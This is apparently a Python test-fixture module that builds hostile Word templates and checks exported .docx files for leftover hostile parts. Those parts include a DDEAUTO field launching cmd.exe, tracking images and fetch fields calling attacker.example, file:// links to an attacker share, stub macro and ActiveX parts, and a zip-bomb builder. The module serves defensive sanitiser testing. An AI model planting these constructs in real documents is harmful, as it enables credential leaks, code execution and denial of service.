"""Word templates with something hostile in them, built byte by byte, and a look inside
the .docx files exported from them.

`hostile_template()` is a company template of the kind an attacker (or an old macro
template passed around a company) would hand in: an attached template on a file share,
pictures and an OLE object linked from the internet, a `file://` link, an embedded OLE
package, an ActiveX control, macros (vbaProject.bin, a ribbon), a subdocument, a mail
merge source, fields that fetch (INCLUDEPICTURE, DDEAUTO) and an external hyperlink;
beside them the company's real header and footer text and its embedded logo, which must
survive.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import docx

NS = {
    "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "pic": "http://schemas.openxmlformats.org/drawingml/2006/picture",
}
_DECLS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NS.items())
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"
HEADER_TEXT = "ACME confidential header"
FOOTER_TEXT = "ACME confidential footer"
LINK_TEXT = "the ACME incident policy"
# What must not reach an export, as it appears in the XML or the part names.
HOSTILE_MARKERS = (
    "attacker.example", "file://", "attachedTemplate", "r:link", "OLEObject", "w:control",
    "INCLUDEPICTURE", "DDEAUTO", "subDoc", "mailMerge", "vbaProject", "customUI",
    "activeX", "embeddings/", "TargetMode=\"External\"",
)


def png(width: int = 2, height: int = 2) -> bytes:
    """A tiny valid PNG (the company logo)."""
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def _rels(*rels: tuple[str, str, str, bool]) -> str:
    items = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "") + "/>"
        for rid, kind, target, external in rels
    )
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{items}</Relationships>")


def _picture(attribute: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="90000" cy="90000"/>'
        '<wp:docPr id="1" name="logo"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="logo"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {attribute}/></pic:blipFill><pic:spPr/></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


_LOGO = _picture('r:embed="rIdLogo"')
_TRACKER = _picture('r:link="rIdTracker"')
HEADER = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr {_DECLS}>'
    f"<w:p><w:r><w:t>{HEADER_TEXT}</w:t></w:r>{_LOGO}</w:p>"
    f"<w:p>{_TRACKER}</w:p>"
    '<w:p><w:r><w:pict><v:shape id="s1"><v:imagedata r:id="rIdShare" o:title=""/>'
    "</v:shape></w:pict></w:r></w:p>"
    '<w:p><w:r><w:object><v:shape id="ole1"><v:imagedata r:id="rIdLogo"/></v:shape>'
    '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="rIdOleLink" '
    'UpdateMode="Always"/></w:object></w:r></w:p>'
    '<w:p><w:r><w:object><v:shape id="ole2"/><o:OLEObject Type="Embed" ProgID="Package" '
    'ShapeID="ole2" r:id="rIdOleEmbed"/></w:object></w:r></w:p>'
    '<w:p><w:r><w:object><v:shape id="ax1"/><w:control r:id="rIdActiveX" '
    'w:name="CheckBox1" w:shapeid="ax1"/></w:object></w:r></w:p>'
    "</w:hdr>"
)
HEADER_RELS = _rels(
    ("rIdLogo", _REL + "image", "media/logo.png", False),
    ("rIdTracker", _REL + "image", "http://attacker.example/track.png", True),
    ("rIdShare", _REL + "image", "file://attacker.example/share/x.png", True),
    ("rIdOleLink", _REL + "oleObject", "file:///C:/Finance/secret.xlsx", True),
    ("rIdOleEmbed", _REL + "oleObject", "embeddings/oleObject1.bin", False),
    ("rIdActiveX", _REL + "control", "activeX/activeX1.xml", False),
)
FOOTER = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:ftr {_DECLS}>'
    f"<w:p><w:r><w:t>{FOOTER_TEXT} </w:t></w:r>"
    f'<w:hyperlink r:id="rIdPolicy"><w:r><w:t>{LINK_TEXT}</w:t></w:r></w:hyperlink>'
    '<w:hyperlink r:id="rIdFileLink"><w:r><w:t> (share)</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://attacker.example/x.png" \\d \'>'
    "<w:r><w:t>[picture]</w:t></w:r></w:fldSimple></w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[dde]</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:r><w:t xml:space="preserve">Page </w:t></w:r><w:fldSimple w:instr=" PAGE ">'
    "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
    "</w:ftr>"
)
FOOTER_RELS = _rels(
    ("rIdPolicy", _REL + "hyperlink", "https://attacker.example/policy", True),
    ("rIdFileLink", _REL + "hyperlink", "file://attacker.example/share", True),
)
ACTIVEX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
    f'xmlns:r="{NS["r"]}" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" '
    'ax:persistence="persistStorage" r:id="rIdBin"/>'
)
SETTINGS_EXTRA = (
    '<w:attachedTemplate r:id="rIdTemplate"/>'
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
    '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0"/>'
    '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdMerge"/></w:mailMerge>'
)
TYPES_EXTRA = (
    '<Default Extension="png" ContentType="image/png"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.header+xml"/>'
    '<Override PartName="/word/footer1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.footer+xml"/>'
    '<Override PartName="/word/embeddings/oleObject1.bin" '
    'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    '<Override PartName="/word/activeX/activeX1.xml" '
    'ContentType="application/vnd.ms-office.activeX+xml"/>'
    '<Override PartName="/word/activeX/activeX1.bin" '
    'ContentType="application/vnd.ms-office.activeX"/>'
    '<Override PartName="/customUI/customUI.xml" ContentType="application/xml"/>'
)


def _base() -> dict[str, bytes]:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _insert(xml: bytes, before: bytes, extra: str) -> bytes:
    at = xml.index(before)
    return xml[:at] + extra.encode() + xml[at:]


_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MAIN_TYPES = {
    (False, False): _MAIN,
    (True, False): _MAIN.replace(b"document.main", b"template.main"),
    (True, True): b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    (False, True): b"application/vnd.ms-word.document.macroEnabled.main+xml",
}


def hostile_template(path: Path, *, dotx: bool = False, macro: bool = False) -> Path:
    """The hostile template; dotx/macro choose the main part's content type (a .dotx,
    or a macro-enabled .docm/.dotm)."""
    parts = _base()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        _MAIN, MAIN_TYPES[dotx, macro])
    parts["[Content_Types].xml"] = _insert(parts["[Content_Types].xml"], b"</Types>", TYPES_EXTRA)
    parts["_rels/.rels"] = _insert(parts["_rels/.rels"], b"</Relationships>", _rels(
        ("rIdRibbon", _MS_REL + "ui/extensibility", "customUI/customUI.xml", False),
    ).split(">", 2)[2].removesuffix("</Relationships>"))
    parts["customUI/customUI.xml"] = (
        b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
        b'onLoad="AutoOpen"/>')
    document = parts["word/document.xml"]
    document = document.replace(
        b"<w:body>",
        f'<w:body><w:p><w:r><w:t>Template sample text</w:t></w:r></w:p>'
        f'<w:subDoc {_DECLS.split()[1]} r:id="rIdSub"/>'.encode(),
    )
    parts["word/document.xml"] = _insert(
        document, b"<w:pgSz",
        '<w:headerReference w:type="default" r:id="rIdHeader"/>'
        '<w:footerReference w:type="default" r:id="rIdFooter"/>',
    )
    parts["word/_rels/document.xml.rels"] = _insert(
        parts["word/_rels/document.xml.rels"], b"</Relationships>",
        _rels(
            ("rIdHeader", _REL + "header", "header1.xml", False),
            ("rIdFooter", _REL + "footer", "footer1.xml", False),
            ("rIdVba", _MS_REL + "vbaProject", "vbaProject.bin", False),
            ("rIdSub", _REL + "subDocument", "file://attacker.example/share/sub.docx", True),
        ).split(">", 2)[2].removesuffix("</Relationships>"),
    )
    parts["word/settings.xml"] = _insert(parts["word/settings.xml"], b"<w:defaultTabStop",
                                         SETTINGS_EXTRA)
    parts["word/_rels/settings.xml.rels"] = _rels(
        ("rIdTemplate", _REL + "attachedTemplate",
         "file://attacker.example/share/Normal.dotm", True),
        ("rIdMerge", _REL + "mailMergeSource", "file:///C:/Finance/people.xlsx", True),
    ).encode()
    parts["word/header1.xml"] = HEADER.encode()
    parts["word/_rels/header1.xml.rels"] = HEADER_RELS.encode()
    parts["word/footer1.xml"] = FOOTER.encode()
    parts["word/_rels/footer1.xml.rels"] = FOOTER_RELS.encode()
    parts["word/media/logo.png"] = png()
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0OLE package payload"
    parts["word/activeX/activeX1.xml"] = ACTIVEX.encode()
    parts["word/activeX/_rels/activeX1.xml.rels"] = _rels(
        ("rIdBin", _MS_REL + "activeXControlBinary", "activeX1.bin", False)).encode()
    parts["word/activeX/activeX1.bin"] = b"ActiveX control payload"
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0Attribute VB_Name = AutoOpen"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def parts_of(path: Path) -> dict[str, str]:
    """Every part of a .docx, as text (binary parts decoded loosely)."""
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode("utf-8", "replace") for n in archive.namelist()}


def hostile_left(path: Path) -> list[str]:
    """Which hostile markers an exported .docx still holds, and where."""
    found = []
    for name, text in parts_of(path).items():
        for marker in HOSTILE_MARKERS:
            if marker in name or marker in text:
                found.append(f"{marker} in {name}")
    return found


_RID = re.compile(r'\br:(?:id|embed|link|pict|dm|lo|qs|cs|href)="([^"]+)"')


def dangling_references(path: Path) -> Iterator[str]:
    """r:id-style references in any XML part that its relationships do not define (Word
    calls such a file damaged)."""
    parts = parts_of(path)
    for name, text in parts.items():
        if not name.endswith(".xml"):
            continue
        folder, _, leaf = name.rpartition("/")
        rels = parts.get(f"{folder}/_rels/{leaf}.rels" if folder else f"_rels/{leaf}.rels", "")
        defined = set(re.findall(r'Id="([^"]+)"', rels))
        for rid in _RID.findall(text):
            if rid not in defined:
                yield f"{name}: {rid}"


_MIB = b"\0" * (1 << 20)


class _ZerosDeflater:
    """Stands in for zlib's compressor in zipfile: after a full flush every MiB of zeros
    deflates to the same bytes, so a 6 GiB part is written in seconds, not a minute."""

    def __init__(self) -> None:
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        self._block = deflate.compress(_MIB) + deflate.flush(zlib.Z_FULL_FLUSH)

    def compress(self, data: bytes) -> bytes:
        assert data == _MIB
        return self._block

    def flush(self) -> bytes:
        return zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def bomb(path: Path, mib: int, name: str = "word/styles.xml", *, dotx: bool = False) -> Path:
    """A template whose part `name` inflates to `mib` MiB of zeros (zip64 where needed):
    a few kilobytes per gigabyte on disk, and no such memory to build."""
    parts = _base()
    if dotx:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"document.main+xml", b"template.main+xml")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, allowZip64=True) as archive:
        for part, data in parts.items():
            if part != name:
                archive.writestr(part, data)
        with archive.open(name, "w", force_zip64=mib >= 4000) as entry:
            entry._compressor = _ZerosDeflater()  # type: ignore[attr-defined]
            for _ in range(mib):
                entry.write(_MIB)
    return path
